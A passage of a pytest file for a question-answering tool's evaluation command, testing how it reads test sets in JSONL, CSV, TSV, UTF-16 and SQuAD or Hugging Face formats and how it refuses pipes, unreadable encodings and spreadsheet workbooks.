    /dev/stdout itself), the reader got nothing and exit was 0; an output named through a
    symbolic link replaced the link, leaving the file it pointed to as it was. A path that
    is not a plain file is refused before anything runs; a link's own file is written."""
    import stat

    monkeypatch.setattr(eval_report, "_save_plot", lambda path, draw: False)  # fast: no PNGs
    questions = tmp_path / "t.jsonl"
    questions.write_text('{"question": "Who is the Pentagon spokesman?", '
                         '"answers": ["John Kirby"]}\n', encoding="utf-8")
    base = ["eval", str(questions), "--seeds", str(SEEDS), "--index", str(tmp_path / "index"),
            "--model", "fake-hashing"]
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    for flag in ("--out", "--csv", "--metrics-out"):
        code, out, err = _main(capsys, *base, flag, str(pipe))
        assert code == 2 and out == "" and err.count("\n") == 1, (flag, err)
        assert f"{flag} {str(pipe)!r} is not a plain file" in err
        assert stat.S_ISFIFO(pipe.lstat().st_mode)
    assert fake_model == [] and sorted(p.name for p in tmp_path.iterdir()) == ["pipe", "t.jsonl"]
    real = tmp_path / "runs" / "metrics.json"
    real.parent.mkdir()
    real.write_text("{}", encoding="utf-8")
    link = tmp_path / "latest.json"
    link.symlink_to(real)
    code, _, err = _main(capsys, *base, "--metrics-out", str(link))
    assert code == 0, err
    assert link.is_symlink() and json.loads(real.read_text(encoding="utf-8"))["questions"] == 1


def _hf_row(qid: str, title: str, context: str, question: str, golds: list[str]
            ) -> dict[str, Any]:
    """A row of Hugging Face's `squad_v2` dataset as `Dataset.to_json` writes it."""
    return {"id": qid, "title": title, "context": context, "question": question,
            "answers": {"text": golds, "answer_start": [context.find(g) for g in golds]}}


def test_hugging_face_squad_rows_are_read_as_squad(tmp_path: Path) -> None:
    """SQuAD as most people have it now: `load_dataset("squad_v2")[...].to_json(...)`, one
    question a line with its paragraph (`context`) and `answers` as {"text": [...],
    "answer_start": [...]}. Read as JSON lines, every line was refused ("'answers' must be a
    list of strings"); and its paragraphs are the documents, which JSON lines never bring.
    It is read as the SQuAD file it stands for: its titles' paragraphs become the articles."""
    lighthouse = "The lighthouse at Brindle Point was built in 1911 by Ada Brown."
    keeper = "Its first keeper was Tom Reed, who kept bees."
    rows = [
        _hf_row("a1", "Brindle_Point", lighthouse, "When was the lighthouse built?", ["1911"]),
        _hf_row("a2", "Brindle_Point", lighthouse, "Who built it?", ["Ada Brown", "Ada Brown"]),
        _hf_row("a3", "Brindle_Point", keeper, "Who was the first keeper?", ["Tom Reed"]),
        _hf_row("a4", "Brindle_Point", keeper, "Who was the last keeper?", []),
        _hf_row("b1", "Orchard", "The orchard grows forty kinds of apple.",
                "How many kinds of apple?", ["forty", "fourty"]),
        {**_hf_row("b2", "Orchard", "x", "Q?", []), "answers": "x"},
        _hf_row("a1", "Orchard", "The orchard grows forty kinds of apple.", "Again?", []),
    ]
    path = tmp_path / "dev.jsonl"
    path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    testset = load_testset(path)
    assert testset.format == "squad"
    assert [(a.title, a.paragraphs) for a in testset.articles] == [
        ("Brindle Point", (lighthouse, keeper)),
        ("Orchard", ("The orchard grows forty kinds of apple.",))]
    assert [(i.id, i.question, i.answers, i.where) for i in testset.items] == [
        ("a1", "When was the lighthouse built?", ("1911",), "line 1"),
        ("a2", "Who built it?", ("Ada Brown",), "line 2"),
        ("a3", "Who was the first keeper?", ("Tom Reed",), "line 3"),
        ("a4", "Who was the last keeper?", (), "line 4"),
        ("b1", "How many kinds of apple?", ("forty", "fourty"), "line 5")]
    assert [str(p) for p in testset.problems] == [
        "line 6 (id 'b2'): 'answers' must be {\"text\": [...]} (Hugging Face's SQuAD rows) "
        "or a list of strings",
        "line 7 (id 'a1'): duplicate id 'a1'"]
    assert [str(n) for n in testset.notes] == [
        "line 5 (id 'b1'): gold answer 'fourty' is not in its paragraph (scored as given)"]
    assert testset.sha256 == hashlib.sha256(path.read_bytes()).hexdigest()
    assert len(load_testset(path, limit=2).items) == 2
    # a JSON-lines question with a 'context' note of its own and answers as a list is asked
    # of the folder's documents, as before
    path.write_text(json.dumps({"id": "1", "question": "Who?", "answers": ["Ada"],
                                "context": "asked at onboarding"}) + "\n", encoding="utf-8")
    assert load_testset(path).format == "jsonl"


def test_qa_eval_runs_hugging_face_squad_rows_over_their_own_paragraphs(
        tmp_path: Path, fake_model: list[Settings], capsys: pytest.CaptureFixture[str],
        monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("QA_CACHE_DIR", str(tmp_path / "cache"))
    context = "The lighthouse at Brindle Point was built in 1911 by Ada Brown."
    path = tmp_path / "dev.jsonl"
    path.write_text(json.dumps(_hf_row("a1", "Brindle_Point", context,
                                       "Who built the lighthouse at Brindle Point?",
                                       ["Ada Brown"])) + "\n", encoding="utf-8")
    code, stdout, stderr = _main(capsys, "eval", str(path), "--model", "fake-hashing", "--json")
    assert code == 0, stderr
    assert json.loads(stdout)["questions"] == 1 and json.loads(stdout)["hit@1"] == 1.0
    assert fake_model[-1].seeds_dir.parent.parent == tmp_path / "cache" / "eval"


# -- a spreadsheet's export: CSV and TSV --------------------------------------------------------


def test_a_csv_or_tsv_test_set_is_read_as_its_header_names_its_columns(tmp_path: Path) -> None:
    """Evaluators keep questions in spreadsheets: a CSV (or TSV) export with a header row is a
    test set. Golds are split by "|"; an empty one is unanswerable; a cell may hold a line
    break; a bad row is a problem named by its line, an unknown column a note."""
    text = ('ID,Question,Answers,Kind,Reviewer\n'
            'q1,How many American troops are in Iraq today?,"around 2,500 | 2,500",factual,ann\n'
            '\n'
            'q2,"What is the capital of\nFrance?",,unanswerable,\n'
            'q3,,John Kirby,,\n'
            ',Who is the Pentagon spokesman?,John Kirby,,\n')
    (tmp_path / "set.csv").write_bytes(b"\xef\xbb\xbf" + text.encode("utf-8"))  # Excel's BOM
    testset = load_testset(tmp_path / "set.csv")
    assert testset.format == "csv"
    assert [(i.id, i.question, i.answers, i.kind) for i in testset.items] == [
        ("q1", "How many American troops are in Iraq today?", ("around 2,500", "2,500"),
         "factual"),
        ("q2", "What is the capital of\nFrance?", (), "unanswerable"),
        ("line-7", "Who is the Pentagon spokesman?", ("John Kirby",), None)]
    assert [p.where for p in testset.problems] == ["line 6"]  # q3: no question
    assert [str(n) for n in testset.notes] == [
        "line 1: column 'Reviewer' is not one qa reads (question, answers, id, kind): ignored"]
    assert testset.sha256 == hashlib.sha256((tmp_path / "set.csv").read_bytes()).hexdigest()
    (tmp_path / "set.tsv").write_text("question\tanswer\nWho is the Pentagon spokesman?\t"
                                      "John Kirby\n", encoding="utf-8")
    tsv = load_testset(tmp_path / "set.tsv")
    assert [(i.question, i.answers) for i in tsv.items] == [
        ("Who is the Pentagon spokesman?", ("John Kirby",))]


def test_jsonl_files_joined_with_cat_keep_the_second_files_first_question(
        tmp_path: Path) -> None:
    """`cat a.jsonl b.jsonl > all.jsonl`, where b.jsonl was saved with a byte order mark (as
    Notepad or PowerShell save UTF-8): the mark opens a line inside the file, and that
    question was skipped as "not valid JSON (Unexpected UTF-8 BOM (decode using
    utf-8-sig))". A JSON text never starts with U+FEFF: it is read past, on any line."""
    first = json.dumps({"id": "a", "question": "Who is the Pentagon spokesman?",
                        "answers": ["John Kirby"]}) + "\n"
    second = json.dumps({"id": "b", "question": "How many troops?", "answers": ["2,500"]})
    path = tmp_path / "all.jsonl"
    path.write_bytes(b"\xef\xbb\xbf" + first.encode() + b"\xef\xbb\xbf" + second.encode()
                     + b"\r\n\xef\xbb\xbf\n")  # and a file of no question: a blank line
    testset = load_testset(path)
    assert [i.id for i in testset.items] == ["a", "b"] and testset.problems == []


def test_a_csv_test_set_separated_by_semicolons_is_read(tmp_path: Path) -> None:
    """Excel in a locale whose decimal mark is a comma (German, French, ...) saves "CSV" with
    semicolons between cells: the whole header was one column, 'question;answers;id', and
    the test set was refused. The header row says which separator it uses."""
    text = ('Question;Answers;ID;Reviewer\r\n'
            'How many American troops are in Iraq today?;around 2,500 | 2,500;q1;ann\r\n'
            '"Who is the Pentagon spokesman; the one quoted?";John Kirby;q2;\r\n')
    (tmp_path / "set.csv").write_bytes(b"\xef\xbb\xbf" + text.encode("utf-8"))
    testset = load_testset(tmp_path / "set.csv")
    assert [(i.id, i.question, i.answers) for i in testset.items] == [
        ("q1", "How many American troops are in Iraq today?", ("around 2,500", "2,500")),
        ("q2", "Who is the Pentagon spokesman; the one quoted?", ("John Kirby",))]
    assert testset.problems == []
    assert [str(n) for n in testset.notes] == [
        "line 1: column 'Reviewer' is not one qa reads (question, answers, id, kind): ignored"]
    # a comma-separated header wins where both would name a question column
    (tmp_path / "set.csv").write_text("question,answers\nWhy; or why not?,x;y\n",
                                      encoding="utf-8")
    assert [(i.question, i.answers) for i in load_testset(tmp_path / "set.csv").items] == [
        ("Why; or why not?", ("x;y",))]


@pytest.mark.parametrize("top", ["\r\n\r\n", ";;;\r\n", ",,\r\n \r\n"])
def test_blank_rows_above_a_csv_header_are_skipped(tmp_path: Path, top: str) -> None:
    """A sheet whose table starts a row or two down exports blank rows first (",,," or
    ";;;", or empty lines): the header was taken to be the blank row, "no 'question'
    column (its header: )", and a semicolon header was not told from a comma one. Blank
    rows above the header are skipped; each question keeps the number of its line."""
    text = top + ("Question;Answers;ID\r\n"
                  "How many American troops are in Iraq today?;around 2,500;q1\r\n"
                  "Who is the Pentagon spokesman?;;\r\n")
    (tmp_path / "set.csv").write_bytes(b"\xef\xbb\xbf" + text.encode("utf-8"))
    testset = load_testset(tmp_path / "set.csv")
    header = text.count("\n", 0, text.index("Question")) + 1
    assert [(i.id, i.question, i.answers, i.where) for i in testset.items] == [
        ("q1", "How many American troops are in Iraq today?", ("around 2,500",),
         f"line {header + 1}"),
        (f"line-{header + 2}", "Who is the Pentagon spokesman?", (), f"line {header + 2}")]
    assert testset.problems == [] and testset.notes == ()


def test_standard_input_or_a_pipe_as_a_test_set_says_to_save_it(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """`qa eval -` said "test set '-' does not exist", and `qa eval <(jq ... set.jsonl)` or
    `qa eval /dev/stdin` said "is not a file": true, but not what to do. A test set is read
    more than once (its format told from its start, then streamed): save it to a file."""
    import os

    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    with pytest.raises(QAError) as info:
        load_testset(pipe)
    assert str(info.value) == (f"test set {str(pipe)!r} is a pipe, not a file: qa eval reads a "
                               "test set more than once; save it to a file first")
    monkeypatch.chdir(tmp_path)
    with pytest.raises(QAError) as info:
        load_testset(Path("-"))
    assert str(info.value) == ("test set '-' does not exist (qa eval does not read standard "
                               "input: save the test set to a file first)")
    with pytest.raises(QAError, match=r"^test set '.*nope.jsonl' does not exist$"):
        load_testset(tmp_path / "nope.jsonl")


@pytest.mark.parametrize(("table", "suffix"), [
    ("question\tanswers\r\nWho is the Pentagon spokesman?\tJohn Kirby\r\n", ".tsv"),
    ("id,Question,Answers\nq1,Who is the Pentagon spokesman?,John Kirby\n", ".csv"),
    ("id;question\nq1;Who is the Pentagon spokesman?\n", ".csv"),
])
def test_a_table_not_named_as_one_is_told_to_be_named_so(
        tmp_path: Path, table: str, suffix: str) -> None:
    """Excel's "Unicode Text" export is UTF-16, tab-separated, named `.txt`: read as JSON
    lines, each row was "not valid JSON" and the run ended "holds no questions". A file
    whose first line is a table's header naming a question column is told to be named as
    the table it is. A `.jsonl` file is JSON lines whatever its first line."""
    path = tmp_path / "set.txt"
    path.write_bytes(table.encode("utf-16"))
    with pytest.raises(QAError) as info:
        load_testset(path)
    assert str(info.value) == (
        f"test set {str(path)!r} is a table (its first line is a header naming a question "
        f"column), not JSON lines: name it {suffix} to read it as one")
    (tmp_path / f"set{suffix}").write_bytes(path.read_bytes())
    assert load_testset(tmp_path / f"set{suffix}").items[0].question == \
        "Who is the Pentagon spokesman?"
    (tmp_path / "set.jsonl").write_text(table, encoding="utf-8")
    assert load_testset(tmp_path / "set.jsonl").problems[0].where == "line 1"


@pytest.mark.parametrize(("content", "message"), [
    (b"", "is empty: expected a header row"),
    (b"name,text\na,b\n", "has no 'question' column (its header: 'name', 'text')"),
    (b"question\n\xff\xfe bad\n", "is not UTF-8 text"),
])
def test_a_csv_test_set_qa_cannot_read_is_one_line(tmp_path: Path, content: bytes,
                                                   message: str) -> None:
    (tmp_path / "set.csv").write_bytes(content)
    with pytest.raises(QAError, match=re.escape(message)):
        load_testset(tmp_path / "set.csv")


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_a_csv_row_with_more_cells_than_its_header_is_a_bad_question(
        tmp_path: Path, separator: str) -> None:
    """An unquoted cell holding the separator (`Kirby, John`) split the row into more cells
    than the header names: the extra cells were dropped without a word, so the gold answer
    was "Kirby" and the id " John". Such a row is a bad question naming its line (empty
    cells past the header's, as a spreadsheet pads a row, are fine)."""
    s = separator
    path = tmp_path / ("set.tsv" if s == "\t" else "set.csv")
    path.write_text(f"question{s}answers{s}id\r\n"
                    f"Who is the Pentagon spokesman?{s}John Kirby{s}q1{s}{s}\r\n"
                    f"What did he say?{s}Kirby{s} John{s}q2\r\n", encoding="utf-8")
    testset = load_testset(path)
    assert [(i.id, i.answers) for i in testset.items] == [("q1", ("John Kirby",))]
    assert [str(p) for p in testset.problems] == [
        f"line 3: the row has 4 cells where the header names 3 columns: a cell holding the "
        f"separator {s!r} must be quoted"]


def test_a_csv_quote_never_closed_is_named_not_the_rest_of_the_file_swallowed(
        tmp_path: Path) -> None:
    """A cell that opens with a quote and never closes it (a hand-edited CSV) swallowed
    every line after it into one cell: the questions below it were lost without a word,
    and the rest of the file was asked as one question. A CSV qa cannot read as cells is
    one line naming where the bad cell starts; so is a quote followed by more text."""
    path = tmp_path / "set.csv"
    path.write_text('question,answers\r\nWho is the Pentagon spokesman?,John Kirby\r\n'
                    '"Who visited,Kadhimi\r\nWhen?,2021\r\nWhere?,Iraq\r\n', encoding="utf-8")
    with pytest.raises(QAError) as err:
        load_testset(path)
    assert str(err.value) == (
        f"test set {str(path)!r}: line 3: a quoted cell is never closed (it runs to the end "
        "of the file); a quote inside a cell is written twice (\"\")")
    path.write_text('question,answers\r\n"Who" is he?,John Kirby\r\n', encoding="utf-8")
    with pytest.raises(QAError) as err:
        load_testset(path)
    assert str(err.value) == (
        f"test set {str(path)!r}: line 2: a quoted cell is followed by more text before its "
        "separator ','; a quote inside a cell is written twice (\"\")")


_UTF16_SETS = {  # one test set in each format, as UTF-8 text
    "set.jsonl": "".join(json.dumps(r, ensure_ascii=False) + "\r\n" for r in (
        {"id": "a", "question": "Who is Zoë's spokesman?", "answers": ["John Kirby"]},
        {"id": "b", "question": "When? €", "answers": []})),
    "set.csv": ('id;question;answers\r\na;"Who is Zoë\'s\r\nspokesman?";John Kirby\r\n'
                "b;When? €;\r\n"),
    "set.tsv": "id\tquestion\tanswers\na\tWho is Zoë's spokesman?\tJohn Kirby\n",
    "records.json": json.dumps([{"id": "a", "question": "Who is Zoë's spokesman?",
                                 "answers": ["John Kirby"]}], ensure_ascii=False, indent=1),
    "squad.json": json.dumps({"version": "v2.0", "data": [{"title": "Zoë", "paragraphs": [{
        "context": "Zoë's spokesman is John Kirby.", "qas": [{
            "id": "a", "question": "Who is Zoë's spokesman?", "is_impossible": False,
            "answers": [{"text": "John Kirby", "answer_start": 19}]}]}]}]},
        ensure_ascii=False),
}


@pytest.mark.parametrize("name", sorted(_UTF16_SETS))
def test_a_utf16_test_set_is_read_as_its_utf8_twin(tmp_path: Path, name: str) -> None:
    """Windows PowerShell 5 (`Out-File`, `>`) and Notepad's "Unicode" save UTF-16 with a
    byte order mark: such a test set was refused ("save it as UTF-8"). It is read, as the
    same text in UTF-8 is (little- or big-endian; the cache key is the file's own bytes)."""
    text = _UTF16_SETS[name]
    twin = tmp_path / "utf8" / name
    twin.parent.mkdir()
    twin.write_bytes(text.encode("utf-8"))
    expected = load_testset(twin)
    assert expected.items and not expected.problems
    for encoding in ("utf-16", "utf-16-le", "utf-16-be"):
        path = tmp_path / encoding / name
        path.parent.mkdir()
        marked = text if encoding == "utf-16" else "\ufeff" + text  # (it writes its mark)
        path.write_bytes(marked.encode(encoding))
        got = load_testset(path)
        assert replace(got, sha256=expected.sha256) == expected, encoding
        assert got.sha256 == hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.mark.parametrize("name", ["set.jsonl", "set.csv", "squad.json", "records.json"])
def test_a_test_set_in_another_encoding_is_one_line_naming_the_file(
        tmp_path: Path, name: str) -> None:
    """UTF-16 without its byte order mark, or with a bad byte sequence, and Latin-1: a
    one-line error naming the file, never a traceback nor questions of NUL characters."""
    text = _UTF16_SETS["squad.json" if name == "squad.json" else name]
    path = tmp_path / name
    path.write_bytes(text.encode("utf-16-le"))  # no byte order mark
    with pytest.raises(QAError) as err:
        load_testset(path)
    assert str(err.value).startswith(f"test set {str(path)!r} is not UTF-8 text"), err.value
    assert "\n" not in str(err.value)
    path.write_bytes(codecs.BOM_UTF16_LE + text.encode("utf-16-le") + b"\x00\xd8x\x00")
    with pytest.raises(QAError) as err:  # a lone surrogate: not UTF-16 after all
        load_testset(path)
    assert str(err.value).startswith(f"test set {str(path)!r} is not UTF-16 text"), err.value
    path.write_bytes(text.encode("latin-1", "replace"))
    with pytest.raises(QAError) as err:
        load_testset(path)
    assert str(err.value).startswith(f"test set {str(path)!r} is not UTF-8 text"), err.value


def test_a_utf16_test_set_is_read_a_line_at_a_time(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Recoded as it is read, not decoded whole: memory holds a block or two (the file's
    SHA-256 is taken a MiB at a time), not the file."""
    import tracemalloc

    rows = "".join(json.dumps({"id": f"q{n}", "question": f"Who is number {n}?",
                               "answers": [], "note": "x" * 4000}) + "\n" for n in range(1500))
    path = tmp_path / "set.jsonl"
    path.write_bytes(rows.encode("utf-16"))
    del rows
    monkeypatch.setattr(Path, "read_bytes", lambda self: pytest.fail("read whole"))
    tracemalloc.start()
    try:
        testset = load_testset(path, limit=10)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert [i.id for i in testset.items] == [f"q{n}" for n in range(10)]
    size = path.stat().st_size
    assert peak < 3 * 2**20 < size / 3, f"{peak:,} bytes for a {size:,}-byte file"


@pytest.mark.parametrize("suffix", [".xlsx", ".XLS", ".ods"])
def test_a_spreadsheet_workbook_is_named_as_one(tmp_path: Path, suffix: str) -> None:
    """`qa eval questions.xlsx`, the spreadsheet itself rather than its CSV export, was read
    as JSON lines: "is not UTF-8 text (bad byte at offset 12)", which says nothing of what
    to do. It says what the file is and what qa reads instead."""
    import zipfile

    path = tmp_path / f"questions{suffix}"
    with zipfile.ZipFile(path, "w") as workbook:
        workbook.writestr("[Content_Types].xml", "<Types/>")
    with pytest.raises(QAError) as err:
        load_testset(path)
    assert str(err.value) == (
        f"test set {str(path)!r} is a spreadsheet workbook: qa reads its CSV export (File > "
        "Save As > CSV UTF-8), a header row naming the columns question, answers, id, kind")


def test_qa_eval_runs_a_csv_test_set(tmp_path: Path, fake_model: list[Settings],
                                     capsys: pytest.CaptureFixture[str],
                                     monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(eval_report, "_save_plot", lambda path, draw: False)  # fast: no PNGs
    testset = tmp_path / "set.csv"
    with testset.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["question", "answers", "kind"])
        writer.writerow(["How many American troops are in Iraq today?", "around 2,500",
                         "factual"])
        writer.writerow(["What is the capital of France?", "", "unanswerable"])
    seeds = tmp_path / "seeds"
    shutil.copytree(SEEDS, seeds)
    code, stdout, stderr = _main(capsys, "eval", str(testset), "--seeds", str(seeds),
                                 "--index", str(tmp_path / "index"), "--model", "fake-hashing",
                                 "--json")
    assert code == 0, stderr
    metrics = json.loads(stdout)
    assert metrics["questions"] == 2 and metrics["answerable"] == 1 and metrics["skipped"] == 0


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le"])
def test_spans_of_a_utf16_text_file_are_checked_against_the_file_decoded(
        tmp_path: Path, encoding: str) -> None:
    """`qa eval` checks every cited span against its document read again from the file; a
    UTF-16 text file (with a mark or without) was read as UTF-8, failed, and its exact
    citations counted as wrong."""
    from qa.schema import answer_json

    seeds = tmp_path / "seeds"
    seeds.mkdir()
    text = "Hall rota\r\n\r\nThe café opens at 9 on Saturdays.\r\n"
    (seeds / "rota.txt").write_bytes(text.encode(encoding))
    pipeline = Pipeline(Settings(model="fake-hashing", seeds_dir=seeds,
                                 index_dir=tmp_path / "index", spacy="none"),
                        HashingEmbedder())
    sources = evaluation.SourceTexts(pipeline.index, seeds)
    assert sources.get("rota") == text
    answer = pipeline.ask("When does the café open?")
    record = answer_json(answer)
    assert record["citations"] and evaluation.check_spans(record, sources) == (
        2 * len(record["citations"]) + (record["lead"] is not None),) * 2


# -- test sets as other tools write them ----------------------------------------------------


def test_a_json_array_of_records_is_read_as_the_json_lines_it_stands_for(
        tmp_path: Path) -> None:
    """pandas' `df.to_json("set.json", orient="records")` writes one JSON array of question
    objects; it was refused ("not a SQuAD file"). Each record is read as the JSON line it
    stands for, named by its number; an array of Hugging Face SQuAD rows is SQuAD."""
    rows = [{"id": "a", "question": "Who is the Pentagon spokesman?", "answers": ["John Kirby"]},
            {"id": "b", "question": "", "answers": []},
            {"id": "c", "question": "What is the capital of France?", "answers": [],
             "kind": "unanswerable"}, 7]
    path = tmp_path / "set.json"
    path.write_text(json.dumps(rows, separators=(",", ":")), encoding="utf-8")  # one line
    testset = load_testset(path)
    assert testset.format == "jsonl"
    assert [(i.id, i.answers, i.kind, i.where) for i in testset.items] == [
        ("a", ("John Kirby",), None, "record 1"), ("c", (), "unanswerable", "record 3")]
    assert [str(p) for p in testset.problems] == ["record 2: the question is empty",
                                                  "record 4: not a JSON object"]
    assert testset.sha256 == hashlib.sha256(path.read_bytes()).hexdigest()
    assert [i.id for i in load_testset(path, limit=1).items] == ["a"]
    path.write_text(json.dumps(rows[:1], indent=4), encoding="utf-8")  # pretty-printed
    assert [i.id for i in load_testset(path).items] == ["a"]
    path.write_text(json.dumps([_hf_row("h1", "Orchard", "The orchard grows forty kinds.",
                                        "How many kinds?", ["forty"])]), encoding="utf-8")
    squad = load_testset(path)
    assert squad.format == "squad" and [i.id for i in squad.items] == ["h1"]
    assert [a.title for a in squad.articles] == ["Orchard"]
    path.write_text('[{"id": "a", "question": "Who?", "answers": []},', encoding="utf-8")
    with pytest.raises(QAError, match=r"is not valid JSON \(Expecting value: line 1"):
        load_testset(path)


def test_squad_is_impossible_written_as_0_or_1_is_read(tmp_path: Path) -> None:
    """Tools that write SQuAD from a table write `is_impossible` as 0 or 1; every such
    question was a bad one ("'is_impossible' must be true or false"). 0 and 1 are read as
    false and true; another number is still refused."""
    data = _small()
    for qa in data["data"][0]["paragraphs"][0]["qas"]:
        qa["is_impossible"] = int(not qa.get("answers"))
    testset = load_testset(_squad(tmp_path, data))
    assert testset.problems == [] and len(testset.items) == 12
    assert sum(not i.answers for i in testset.items) == 4
    data["data"][0]["paragraphs"][0]["qas"][0]["is_impossible"] = 2
    assert [p.message for p in load_testset(_squad(tmp_path, data)).problems] == [
        "'is_impossible' must be true or false (or yes or no, 1 or 0), got 2"]


@pytest.mark.parametrize("flag, impossible", [
    ("true", True), ("True", True), ("FALSE", False), (" yes ", True), ("No", False),
    ("1", True), ("0", False)])
def test_squad_is_impossible_written_as_a_string_is_read(tmp_path: Path, flag: str,
                                                          impossible: bool) -> None:
    """A SQuAD file written from a table or by a script that writes every value as text has
    `"is_impossible": "true"`; each such question was refused as a bad one. The strings
    true/false, yes/no and 1/0 are read, in any case."""
    data = _small()
    qas = [qa for a in data["data"] for p in a["paragraphs"] for qa in p["qas"]]
    for qa in qas:
        qa["is_impossible"] = flag
        if impossible:
            qa["answers"] = []
    testset = load_testset(_squad(tmp_path, data))
    assert testset.problems == [] and len(testset.items) == len(qas)
    assert all(not i.answers for i in testset.items) is impossible


def test_squad_is_impossible_of_another_string_names_the_question(tmp_path: Path) -> None:
    data = _small()
    data["data"][0]["paragraphs"][0]["qas"][1]["is_impossible"] = "maybe"
    problems = load_testset(_squad(tmp_path, data)).problems
    assert len(problems) == 1 and problems[0].where.startswith("data[0].paragraphs[0].qas[1] ")
    assert problems[0].message == ("'is_impossible' must be true or false (or yes or no, 1 "
                                   "or 0), got 'maybe'")


def test_jsonl_is_impossible_and_answerable_are_read_and_checked(tmp_path: Path) -> None:
    """A JSON-lines (or CSV) set converted from SQuAD often keeps `is_impossible` (or an
    `answerable` column) beside `answers`, as booleans or as the strings a spreadsheet
    writes ("TRUE"). They were ignored, so a question marked impossible whose `answers`
    kept its plausible answers was scored as answerable. They are read, as true/false,
    yes/no or 1/0 in any case; one that contradicts `answers`, or is another value, makes
    the question a bad one, named by its line."""
    rows: list[dict[str, Any]] = [
        {"id": "a", "question": "Who is the Pentagon spokesman?", "answers": ["John Kirby"],
         "is_impossible": "false"},
        {"id": "b", "question": "Who is the US defense minister?", "answers": [],
         "is_impossible": "TRUE"},
        {"id": "c", "question": "Who commands US forces?", "answers": [],
         "answerable": False},
        {"id": "d", "question": "Who is the Iraqi PM?", "answers": ["Kadhimi"],
         "answerable": "Yes"},
        {"id": "e", "question": "Who leads Syria?", "answers": ["Assad"],
         "is_impossible": "true"},
        {"id": "f", "question": "Who leads Iran?", "answers": [], "answerable": 1},
        {"id": "g", "question": "Who leads Turkey?", "answers": [], "is_impossible": "maybe"},
        {"id": "h", "question": "Who leads Jordan?", "answers": [], "is_impossible": True,
         "answerable": True},
    ]
    notes: list[Problem] = []
    items, problems = parse_jsonl([json.dumps(r) for r in rows], notes)
    assert [(i.id, i.answers) for i in items] == [
        ("a", ("John Kirby",)), ("b", ()), ("c", ()), ("d", ("Kadhimi",))]
    assert [str(p) for p in problems] == [
        "line 5: 'is_impossible' is true but 'answers' is not empty (plausible answers "
        "are not gold answers)",
        "line 6: 'answerable' is true but 'answers' is empty",
        "line 7: 'is_impossible' must be true or false (or yes or no, 1 or 0), got 'maybe'",
        "line 8: 'is_impossible' and 'answerable' disagree"]
    assert notes == []  # both fields are read: no "not one qa reads" note

    path = tmp_path / "set.csv"  # Excel writes a boolean cell as TRUE or FALSE
    path.write_text("question,answers,is_impossible\r\n"
                    "Who is the Pentagon spokesman?,John Kirby,FALSE\r\n"
                    "Who leads Syria?,Assad,TRUE\r\n", encoding="utf-8")
    testset = load_testset(path)
    assert [i.answers for i in testset.items] == [("John Kirby",)]
    assert [str(p) for p in testset.problems] == [
        "line 3: 'is_impossible' is true but 'answers' is not empty (plausible answers "
        "are not gold answers)"]
    assert testset.notes == ()


def test_a_squad_file_named_jsonl_says_so(tmp_path: Path) -> None:
    """A SQuAD file saved as `.jsonl` (minified: one line) is read as JSON lines, as the
    name says; its one line was a bad question "missing 'question'", which did not say why.
    It is named as a SQuAD file, with the fix."""
    path = tmp_path / "squad.jsonl"
    path.write_text(json.dumps(_small()) + "\n", encoding="utf-8")
    testset = load_testset(path)
    assert testset.items == [] and [str(p) for p in testset.problems] == [
        "line 1: this line is a whole SQuAD file (a 'data' list of articles), not a "
        "question: a .jsonl file is read as JSON lines, one question a line; name a SQuAD "
        "file .json"]


@pytest.mark.parametrize("separator", [";", ",", "\t"])
def test_a_csv_whose_first_line_names_its_separator_is_read(tmp_path: Path,
                                                            separator: str) -> None:
    """Excel saves (and reads) a first line `sep=;` naming the separator of the cells; such
    a CSV was refused ("has no 'question' column (its header: 'sep=;')"). The line is read
    as the separator it names; line numbers stay the file's."""
    s = separator
    text = (f"sep={s}\r\nquestion{s}answers{s}id{s}note\r\n"
            f"Who is the Pentagon spokesman?{s}John Kirby{s}q1\r\n{s}x{s}q2\r\n")
    (tmp_path / "set.csv").write_text(text, encoding="utf-8")
    testset = load_testset(tmp_path / "set.csv")
    assert [(i.id, i.question, i.answers) for i in testset.items] == [
        ("q1", "Who is the Pentagon spokesman?", ("John Kirby",))]
    assert [str(p) for p in testset.problems] == ["line 4: the question is empty"]
    assert [n.where for n in testset.notes] == ["line 2"]  # the header's line


def test_the_readme_names_every_metric_a_gate_reads_as_lower_is_better() -> None:
    """The README's `--fail-on-drop` paragraph named `*_ms`, `wrongly_abstained`, `skipped`
    and `total_seconds` as the metrics where higher is worse, but not `errors` nor
    `answer_words_max`, which the gate reads so too: a reader gating `errors=0` could not
    tell from the README which way it fails."""
    readme = (Path(__file__).resolve().parents[1] / "README.md").read_text(encoding="utf-8")
    sentence = " ".join(readme.split("when B is worse than A by more than DELTA", 1)[1]
                        .split(". ", 1)[0].split())
    for name in eval_report.LOWER_IS_BETTER:
        assert f"`{name}`" in sentence, name
